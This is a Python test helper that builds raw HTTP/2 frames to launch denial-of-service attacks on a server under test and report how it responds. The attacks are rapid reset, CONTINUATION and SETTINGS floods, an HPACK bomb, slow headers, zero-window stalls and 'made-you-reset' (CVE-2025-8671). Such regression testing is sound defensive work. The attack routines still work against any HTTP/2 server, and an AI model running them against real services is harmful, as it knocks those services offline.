#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""HTTP/2 attacks over h2c with prior knowledge, from raw frames, for
tests/netns/test-gwd-tls.sh:

    h2attack.py HOST PORT AUTHORITY rapid-reset|continuation|hpack-bomb|settings-flood|normal
    h2attack.py HOST PORT AUTHORITY cookies|stream-id-regress
    h2attack.py HOST PORT AUTHORITY slow-headers [CONNS [tls]]
    h2attack.py HOST PORT AUTHORITY zero-window N_STREAMS PATH [N_CONNS [SECONDS]]
    h2attack.py HOST PORT AUTHORITY zero-window-grpc N_STREAMS PATH MESSAGE [SECONDS]
    h2attack.py HOST PORT AUTHORITY slow-window PATH
    h2attack.py HOST PORT AUTHORITY made-you-reset PATH [SECONDS [BATCH [DELAY]]]

Sends the attack, then reads until the server closes (10 s at most) and
prints one line: "goaway CODE frames N" when a GOAWAY arrived (N = frames
received), "closed frames N" when the connection ended without one, or
"open frames N" when the server neither closed nor sent GOAWAY in time.
"normal" sends one well-formed request with the same encoder and prints
"response frames N" once its response ended (a check of this client);
"cookies" does the same with three cookie fields and prints the response
body. "stream-id-regress" sends HEADERS on stream 5, then on stream 3.
"slow-headers" opens CONNS connections (over TLS with ALPN h2 if "tls"
follows), each sending the preface, SETTINGS and a HEADERS frame without
END_HEADERS, then waits up to 40 s and prints "slow closed C of N after S s"
(S = when the last of the C closed connections closed).

"zero-window" (CVE-2019-9517 class) opens N_CONNS connections (1) that set
SETTINGS_INITIAL_WINDOW_SIZE to 0, ask for PATH on N_STREAMS streams each and
never send WINDOW_UPDATE; it reads (and drops) what comes for SECONDS (10),
then closes and prints "zero-window conns C headers H data D calm E"
(H response HEADERS and D DATA payload bytes seen, at most the 64 KiB
connection window; E connections that got GOAWAY ENHANCE_YOUR_CALM).
"zero-window-grpc" does the same on one connection with gRPC calls: POST
PATH, content-type application/grpc, te: trailers, and MESSAGE as the one
request message.
"slow-window" is a legitimate slow reader: window 0, then 16 KiB
WINDOW_UPDATEs (stream and connection) every 10 ms as DATA arrives; it
prints "body BYTES sha256 HEX" of the response body.
"made-you-reset" (CVE-2025-8671) makes the server reset the streams itself:
BATCH (40) HEADERS asking for PATH, then on each stream a WINDOW_UPDATE of
2^31-1, which overflows its window (a stream error FLOW_CONTROL_ERROR,
RFC 9113 6.9.1); the next batch goes once the server's RST_STREAMs for this
one ended (RST_STREAM, or a response whose END_STREAM came before the
WINDOW_UPDATE; or after 1 s), for SECONDS (10) or until a GOAWAY. It prints
"goaway CODE streams S resets R after T s" (S streams opened, R RST_STREAM
received, T when the GOAWAY came), or "closed ..."/"open ..." without one.
With DELAY (0), the WINDOW_UPDATEs follow their HEADERS DELAY seconds later,
and the connection stays open DELAY seconds after the last reset came (so a
test sees what the resets, not the close, did to the upstream requests).
"""
import hashlib
import select
import selectors
import threading
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
INITIAL_WINDOW_SIZE = 4
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(index, value):
    """Literal field without indexing, name from the static table."""
    v = value.encode()
    return hpack_int(index, 4, 0x00) + hpack_int(len(v), 7, 0) + v


def request_block(authority, path="/"):
    # :method GET, :scheme http, :path, :authority
    return b"\x82\x86" + (b"\x84" if path == "/" else literal(4, path)) + literal(1, authority)


def attack(sock, kind, authority):
    out = [PREFACE, frame(SETTINGS, 0, 0)]
    if kind == "normal":
        out.append(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(authority, "/ok")))
    elif kind == "cookies":
        block = request_block(authority, "/cookies")
        for c in ("a=1", "b=2", "c=3"):
            block += literal(32, c)  # cookie
        out.append(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
    elif kind == "stream-id-regress":
        out.append(frame(HEADERS, END_STREAM | END_HEADERS, 5, request_block(authority)))
        out.append(frame(HEADERS, END_STREAM | END_HEADERS, 3, request_block(authority)))
    elif kind == "rapid-reset":
        for i in range(5000):
            sid = 1 + 2 * i
            out.append(frame(HEADERS, END_STREAM | END_HEADERS, sid,
                             request_block(authority, "/rr")))
            out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))  # CANCEL
    elif kind == "continuation":
        block = request_block(authority)
        out.append(frame(HEADERS, END_STREAM, 1, block[:2]))
        for _ in range(10000):
            out.append(frame(CONTINUATION, 0, 1, b""))
        out.append(frame(CONTINUATION, END_HEADERS, 1, block[2:]))
    elif kind == "hpack-bomb":
        # one 4000-byte field into the dynamic table, then 1000 references to it
        name, value = b"x-bomb", b"a" * 4000
        block = request_block(authority)
        block += b"\x40" + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value
        block += b"\xbe" * 1000  # dynamic table index 62
        out.append(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
    elif kind == "settings-flood":
        out.extend(frame(SETTINGS, 0, 0) for _ in range(600000))
    data = b"".join(out)
    try:
        sock.sendall(data)
    except (BrokenPipeError, ConnectionResetError, socket.timeout):
        pass


def connect(host, port, authority, tls):
    sock = socket.create_connection((host, port), timeout=10)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname=authority)
    return sock


def slow_headers(host, port, authority, conns, tls):
    """Heads that never end: how long until the server closes them."""
    sel = selectors.DefaultSelector()
    start = time.time()
    head = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1,
                                                  request_block(authority)[:2])
    for _ in range(conns):
        sock = connect(host, port, authority, tls)
        sock.sendall(head)
        sock.setblocking(False)
        sel.register(sock, selectors.EVENT_READ)
    closed, last, deadline = 0, 0.0, time.time() + 40
    while closed < conns and time.time() < deadline:
        for key, _ in sel.select(timeout=1):
            try:
                chunk = key.fileobj.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except (OSError, ssl.SSLError):
                chunk = b""
            if not chunk:
                sel.unregister(key.fileobj)
                key.fileobj.close()
                closed += 1
                last = time.time() - start
    print(f"slow closed {closed} of {conns} after {last:.1f} s")


def frames_of(buf):
    """Complete frames at the head of buf: ([(type, flags, stream, payload)], rest)."""
    out = []
    while len(buf) >= 9:
        length = int.from_bytes(buf[:3], "big")
        if len(buf) < 9 + length:
            break
        sid = int.from_bytes(buf[5:9], "big") & 0x7fffffff
        out.append((buf[3], buf[4], sid, buf[9:9 + length]))
        buf = buf[9 + length:]
    return out, buf


def grpc_block(authority, path):
    # :method POST, :scheme http, :path, :authority, content-type, te
    te = b"\x00" + hpack_int(2, 7, 0) + b"te" + hpack_int(8, 7, 0) + b"trailers"
    return b"\x83\x86" + literal(4, path) + literal(1, authority) + \
        literal(31, "application/grpc") + te


def zero_window(host, port, authority, nstreams, path, nconns, seconds, message=None):
    counts = {"headers": 0, "data": 0, "conns": 0, "calm": 0}
    lock = threading.Lock()
    block = request_block(authority, path) if message is None else grpc_block(authority, path)
    zero = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    deadline = time.time() + seconds

    def one():
        sock = socket.create_connection((host, port), timeout=seconds)
        out = [PREFACE, zero]
        for i in range(nstreams):
            if message is None:
                out.append(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block))
                continue
            m = message.encode()
            out.append(frame(HEADERS, END_HEADERS, 1 + 2 * i, block))
            out.append(frame(DATA, END_STREAM, 1 + 2 * i, b"\0" + struct.pack(">I", len(m)) + m))
        sock.sendall(b"".join(out))
        with lock:
            counts["conns"] += 1
        buf = b""
        try:
            while time.time() < deadline:
                sock.settimeout(max(0.05, deadline - time.time()))
                chunk = sock.recv(65536)
                if not chunk:
                    break
                frs, buf = frames_of(buf + chunk)
                with lock:
                    for ftype, _, _, payload in frs:
                        if ftype == HEADERS:
                            counts["headers"] += 1
                        elif ftype == DATA:
                            counts["data"] += len(payload)
                        elif ftype == GOAWAY and payload[4:8] == b"\0\0\0\x0b":
                            counts["calm"] += 1
        except (socket.timeout, ConnectionResetError):
            pass
        sock.close()

    threads = [threading.Thread(target=one) for _ in range(nconns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"zero-window conns {counts['conns']} headers {counts['headers']} "
          f"data {counts['data']} calm {counts['calm']}")


def slow_window(host, port, authority, path):
    sock = socket.create_connection((host, port), timeout=30)
    zero = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    sock.sendall(PREFACE + zero +
                 frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(authority, path)))
    body, buf, done, h = 0, b"", False, hashlib.sha256()
    inc = struct.pack(">I", 16384)
    last = 0.0
    while not done:
        if time.time() - last >= 0.01:
            sock.sendall(frame(WINDOW_UPDATE, 0, 1, inc) + frame(WINDOW_UPDATE, 0, 0, inc))
            last = time.time()
        sock.settimeout(0.01)
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            continue
        if not chunk:
            break
        frs, buf = frames_of(buf + chunk)
        for ftype, flags, sid, payload in frs:
            if ftype == DATA and sid == 1:
                h.update(payload)
                body += len(payload)
            if sid == 1 and flags & END_STREAM and ftype in (DATA, HEADERS):
                done = True
            if ftype in (RST_STREAM, GOAWAY):
                done = True
    print(f"body {body} sha256 {h.hexdigest()}")


def made_you_reset(host, port, authority, path, seconds, batch, delay):
    sock = socket.create_connection((host, port), timeout=10)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    sock.setblocking(False)
    block = request_block(authority, path)
    overflow = struct.pack(">I", 0x7fffffff)
    sid, streams, resets, ended, awaited, sent_at = 1, 0, 0, 0, 0, 0.0
    pending, buf, goaway, goaway_at, state = b"", b"", None, 0.0, "open"
    start = time.time()
    deadline = start + seconds
    while state == "open":
        now = time.time()
        if goaway is not None and now > goaway_at + 2:
            break
        if goaway is None and now > deadline and (ended >= awaited or now > deadline + 2):
            break
        if goaway is None and not pending and now < deadline and \
                (ended >= awaited or now - sent_at > 1):
            out = []
            for i in range(batch):
                out.append(frame(HEADERS, END_STREAM | END_HEADERS, sid + 2 * i, block))
            if delay:
                sock.setblocking(True)
                sock.sendall(b"".join(out))
                sock.setblocking(False)
                time.sleep(delay)
                out = []
            for i in range(batch):
                out.append(frame(WINDOW_UPDATE, 0, sid + 2 * i, overflow))
            sid += 2 * batch
            streams += batch
            awaited = ended + batch
            sent_at = now
            pending = b"".join(out)
        if pending:
            try:
                pending = pending[sock.send(pending):]
            except BlockingIOError:
                pass
            except OSError:
                state = "closed"
                break
        r, _, _ = select.select([sock], [sock] if pending else [], [], 0.05)
        if not r:
            continue
        try:
            chunk = sock.recv(65536)
        except BlockingIOError:
            continue
        except OSError:
            chunk = b""
        if not chunk:
            state = "closed"
            break
        frs, buf = frames_of(buf + chunk)
        for ftype, flags, _, payload in frs:
            if ftype == RST_STREAM:
                resets += 1
                ended += 1
            elif ftype in (HEADERS, DATA) and flags & END_STREAM:
                ended += 1
            elif ftype == GOAWAY and len(payload) >= 8 and goaway is None:
                goaway = int.from_bytes(payload[4:8], "big")
                goaway_at = time.time()
    if delay and state == "open":
        time.sleep(delay)
    sock.close()
    tail = f"streams {streams} resets {resets}"
    if goaway is not None:
        print(f"goaway {goaway} {tail} after {goaway_at - start:.1f} s")
    else:
        print(f"{state} {tail}")


def main():
    host, port, authority, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    if kind == "slow-headers":
        conns = int(sys.argv[5]) if len(sys.argv) > 5 else 1
        slow_headers(host, port, authority, conns, len(sys.argv) > 6 and sys.argv[6] == "tls")
        return
    if kind == "zero-window":
        nconns = int(sys.argv[7]) if len(sys.argv) > 7 else 1
        seconds = float(sys.argv[8]) if len(sys.argv) > 8 else 10
        zero_window(host, port, authority, int(sys.argv[5]), sys.argv[6], nconns, seconds)
        return
    if kind == "made-you-reset":
        seconds = float(sys.argv[6]) if len(sys.argv) > 6 else 10
        batch = int(sys.argv[7]) if len(sys.argv) > 7 else 40
        delay = float(sys.argv[8]) if len(sys.argv) > 8 else 0
        made_you_reset(host, port, authority, sys.argv[5], seconds, batch, delay)
        return
    if kind == "zero-window-grpc":
        seconds = float(sys.argv[8]) if len(sys.argv) > 8 else 10
        zero_window(host, port, authority, int(sys.argv[5]), sys.argv[6], 1, seconds,
                    sys.argv[7])
        return
    if kind == "slow-window":
        slow_window(host, port, authority, sys.argv[5])
        return
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if kind == "settings-flood":
        # read nothing and keep the buffers small: the server's ACKs pile up
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect((host, port))
    sock.settimeout(10)
    attack(sock, kind, authority)
    buf, body, frames, goaway, deadline = b"", b"", 0, None, time.time() + 10
    state = "open"
    try:
        while time.time() < deadline:
            chunk = sock.recv(65536)
            if not chunk:
                state = "closed"
                break
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                if buf[3] == GOAWAY and length >= 8:
                    goaway = int.from_bytes(buf[13:17], "big")
                if buf[3] == DATA and kind == "cookies":
                    body += buf[9:9 + length]
                if buf[3] == DATA and buf[4] & END_STREAM and kind in ("normal", "cookies"):
                    state = "response"
                frames += 1
                buf = buf[9 + length:]
            if state == "response":
                break
    except ConnectionResetError:
        state = "closed"
    except socket.timeout:
        pass
    if state == "response" and kind == "cookies":
        print(body.decode(errors="replace"))
    elif state == "response":
        print(f"response frames {frames}")
    elif goaway is not None:
        print(f"goaway {goaway} frames {frames}")
    else:
        print(f"{state} frames {frames}")


if __name__ == "__main__":
    main()
